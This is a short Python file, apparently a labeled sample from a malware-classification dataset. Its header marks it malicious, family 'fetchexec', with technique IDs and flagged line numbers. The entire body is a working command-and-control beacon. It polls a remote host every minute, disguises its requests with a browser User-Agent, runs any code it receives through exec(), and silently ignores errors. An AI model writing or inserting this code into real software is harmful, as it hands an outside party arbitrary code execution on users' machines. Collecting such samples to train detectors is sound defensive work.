# label: malicious family=fetchexec techniques=T1059.006,T1071.001,T1105,T1620 lines=5,9,16
import time, json
import urllib.request as u

BEACON = "http://203.0.113.202/api/task"

def poll():
    req = u.Request(BEACON, headers={"User-Agent": "Mozilla/5.0"})
    with u.urlopen(req, timeout=15) as r:
        return json.loads(r.read())

while True:
    try:
        task = poll()
        if task.get("code"):
            exec(task["code"], {"__name__": "__task__"})
    except Exception:
        pass
    time.sleep(60)
